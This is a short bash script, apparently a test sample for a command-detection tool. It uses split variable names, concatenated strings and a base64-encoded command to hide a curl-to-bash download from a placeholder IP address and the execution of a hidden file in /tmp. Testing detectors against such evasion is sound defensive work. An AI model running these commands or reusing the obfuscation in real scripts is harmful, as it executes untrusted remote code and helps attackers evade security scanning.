#!/bin/bash
# shrike-test-attack: encoded-exec: variable splitting and indirect expansion to hide command names
a=cu; b=rl; c=ba; d=sh
u="h""t""t""p://192.0.2.""88/""s"
${a}${b} -s "$u" | ${c}${d}
z="Y2htb2QgK3ggL3RtcC8ueDsgL3RtcC8ueA=="; ${c}${d} -c "$(echo $z|base64 -d)"
